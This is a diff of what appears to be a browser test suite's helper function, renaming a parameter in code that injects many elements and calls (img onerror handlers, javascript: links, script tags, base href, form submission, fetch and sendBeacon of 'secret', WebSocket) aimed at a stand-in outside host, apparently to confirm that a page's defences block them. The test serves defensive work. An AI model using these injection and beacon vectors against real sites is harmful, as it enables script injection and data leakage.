@@ -123,7 +123,7 @@ async function lookAtAll(page: Page, shown: Set<string>): Promise<void> {
 }
 
 /** What would be there if text had become markup. Plain DOM calls, as no sink for text is left. */
-function breakIn(trap: string): void {
+function breakIn(theirs: string): void {
   const add = (tag: string, attributes: { readonly [name: string]: string }): HTMLElement => {
     const element = document.createElement(tag);
     for (const [name, value] of Object.entries(attributes)) {
@@ -136,34 +136,34 @@ function breakIn(trap: string): void {
     document.body.append(element);
     return element;
   };
-  add("img", { src: `${trap}/img.png`, onerror: "window.pwned=true" });
-  add("img", { srcset: `${trap}/set.png 2x` });
-  add("link", { rel: "stylesheet", href: `${trap}/a.css` });
-  add("link", { rel: "preload", as: "image", href: `${trap}/preload.png` });
-  add("link", { rel: "prefetch", href: `${trap}/prefetch` });
+  add("img", { src: `${theirs}/img.png`, onerror: "window.pwned=true" });
+  add("img", { srcset: `${theirs}/set.png 2x` });
+  add("link", { rel: "stylesheet", href: `${theirs}/a.css` });
+  add("link", { rel: "preload", as: "image", href: `${theirs}/preload.png` });
+  add("link", { rel: "prefetch", href: `${theirs}/prefetch` });
   add("style", {}).append("body { color: red }");
-  add("iframe", { src: `${trap}/frame` });
-  add("object", { data: `${trap}/object.swf`, type: "application/x-shockwave-flash" });
-  add("embed", { src: `${trap}/embed.pdf`, type: "application/pdf" });
-  add("video", { src: `${trap}/a.mp4`, poster: `${trap}/poster.png`, autoplay: "" });
-  add("audio", { src: `${trap}/a.mp3`, autoplay: "" });
+  add("iframe", { src: `${theirs}/frame` });
+  add("object", { data: `${theirs}/object.swf`, type: "application/x-shockwave-flash" });
+  add("embed", { src: `${theirs}/embed.pdf`, type: "application/pdf" });
+  add("video", { src: `${theirs}/a.mp4`, poster: `${theirs}/poster.png`, autoplay: "" });
+  add("audio", { src: `${theirs}/a.mp3`, autoplay: "" });
   add("div", { onclick: "window.pwned=true" }).click();
-  add("base", { href: `${trap}/` });
+  add("base", { href: `${theirs}/` });
   add("a", { href: "javascript:window.pwned=true" }).click();
   const form = document.createElement("form");
-  form.action = `${trap}/form`;
+  form.action = `${theirs}/form`;
   document.body.append(form);
   form.submit();
   const sheet = new CSSStyleSheet();
   document.adoptedStyleSheets.push(sheet);
-  sheet.insertRule(`body { background: url(${trap}/sheet.png) }`);
-  new FontFace("a", `url(${trap}/font.woff2)`).load().catch(() => undefined);
-  fetch(`${trap}/fetch`).catch(() => undefined);
-  navigator.sendBeacon(`${trap}/beacon`, "secret");
-  new EventSource(`${trap}/events`).close();
+  sheet.insertRule(`body { background: url(${theirs}/sheet.png) }`);
+  new FontFace("a", `url(${theirs}/font.woff2)`).load().catch(() => undefined);
+  fetch(`${theirs}/fetch`).catch(() => undefined);
+  navigator.sendBeacon(`${theirs}/beacon`, "secret");
+  new EventSource(`${theirs}/events`).close();
   for (const start of [
-    () => new WebSocket(trap.replace("http", "ws")),
-    () => add("script", { src: `${trap}/script.js` }),
+    () => new WebSocket(theirs.replace("http", "ws")),
+    () => add("script", { src: `${theirs}/script.js` }),
     () => document.createElement("script").append("window.pwned=true"),
   ]) {
     try {
